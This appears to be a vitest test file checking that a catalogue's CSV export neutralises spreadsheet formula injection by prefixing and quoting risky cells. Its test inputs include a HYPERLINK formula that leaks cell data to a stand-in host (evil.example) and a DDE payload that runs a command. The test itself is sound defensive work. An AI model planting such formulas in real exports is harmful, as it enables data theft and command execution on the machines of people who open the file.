/**
 * CSV injection: values a curator types that a spreadsheet would run as formulas come out of
 * the open-data export neutralised (OWASP "CSV Injection": prefix a single quote to cells
 * starting with =, +, -, @, tab or carriage return, and quote the cell). The values go in
 * through the curator forms' own schemas and modules, and come out through the export route's
 * query and writer.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chipSchema, converterSchema, revisionSchema } from '../../src/lib/server/curate/schemas';
import { createChip, createConverter, createRevision } from '../../src/lib/server/curate/catalogue';
import { exportCatalogue } from '../../src/lib/server/queries/public';
import { toCsv } from '../../src/lib/server/queries/public-http';
import { neutraliseCell } from '../../src/lib/server/security/csv';
import { curateWorld } from './helpers/curate-world';

let world: Awaited<ReturnType<typeof curateWorld>>;
beforeAll(async () => {
	world = await curateWorld('sg_it_csv_export');
});
afterAll(async () => world?.close());

/** RFC 4180 reader (quoted fields, doubled quotes, CRLF), enough to read our own export back. */
function parseCsv(text: string): string[][] {
	const rows: string[][] = [];
	let row: string[] = [];
	let cell = '';
	let quoted = false;
	for (let i = 0; i < text.length; i++) {
		const ch = text[i];
		if (quoted) {
			if (ch === '"' && text[i + 1] === '"') {
				cell += '"';
				i++;
			} else if (ch === '"') quoted = false;
			else cell += ch;
		} else if (ch === '"') quoted = true;
		else if (ch === ',') {
			row.push(cell);
			cell = '';
		} else if (ch === '\r' && text[i + 1] === '\n') {
			row.push(cell);
			rows.push(row);
			row = [];
			cell = '';
			i++;
		} else cell += ch;
	}
	return rows;
}

describe('the catalogue CSV export', () => {
	it('neutralises formula-like values stored through the curator forms', async () => {
		const chip = await createChip(
			world.db,
			world.curator,
			chipSchema.parse({ name: '@SUM(1+1)', maker: '+Makerish', slug: 'sum-chip' })
		);
		const converter = await createConverter(
			world.db,
			world.curator,
			converterSchema.parse({
				brand: '=HYPERLINK("http://evil.example/?x="&A1,"open")',
				model: '-2+3',
				slug: 'formula-box',
				outputs: ['vga']
			})
		);
		// (The forms trim, so tab and carriage-return lead-ins are covered by the writer check below.)
		await createRevision(
			world.db,
			world.curator,
			revisionSchema.parse({
				converterId: converter!.id,
				code: '=1+1',
				chipId: chip!.id,
				boardMarking: '@cmd|/c calc!A0'
			})
		);

		const rows = await exportCatalogue(world.db);
		const csv = toCsv(rows, Object.keys(rows[0]) as never[]);
		const [header, ...data] = parseCsv(csv);
		const row = Object.fromEntries(header.map((h, i) => [h, data[0][i]]));
		expect(row.brand).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"open")`);
		expect(row.model).toBe(`'-2+3`);
		expect(row.revision_code).toBe(`'=1+1`);
		expect(row.chip).toBe(`'@SUM(1+1)`);
		expect(row.board_marking).toBe(`'@cmd|/c calc!A0`);
		// No cell of the file starts with a formula character once parsed.
		for (const cells of data) for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
		// The raw text quotes each neutralised cell, so its separators cannot open new cells.
		expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"`);
	});

	it('leaves plain numbers and ordinary text alone', () => {
		expect(neutraliseCell('-12.5')).toBe('-12.5');
		expect(neutraliseCell('+3')).toBe('+3');
		expect(neutraliseCell('Beam Bridge 2')).toBe('Beam Bridge 2');
		expect(neutraliseCell('\t=1')).toBe("'\t=1");
		expect(neutraliseCell('\r=1')).toBe("'\r=1");
		expect(neutraliseCell('-1+1')).toBe("'-1+1");
		expect(toCsv([{ a: -3, b: '@x' }], ['a', 'b'])).toBe(`a,b\r\n-3,"'@x"\r\n`);
	});
});
